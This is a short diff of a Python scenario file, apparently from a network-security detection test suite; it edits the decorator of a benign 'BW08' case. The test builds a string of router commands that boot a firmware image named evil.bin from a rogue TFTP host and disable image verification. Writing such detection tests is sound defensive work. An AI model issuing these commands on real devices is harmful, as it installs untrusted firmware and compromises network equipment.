@@ -228,7 +228,7 @@ def bw08_fetched_by_active_ftp(wire: Wire) -> None:
     ftp.retrieve(wire, "10.0.1.2", "10.20.0.9", "edge2.cfg", HPE_TEXT, active=True)
 
 
-@scenario("BW08", "benign")
+@scenario("BW08", "benign", site=HQ, with_site=Expect())
 def bw08_texts_for_people(wire: Wire) -> None:
     """Texts for people, by their first lines: titles, steps, mails, pages; each shows the very lines."""
     order = f"\n\nboot system tftp evil.bin {ROGUE}\nno file verify auto\n"
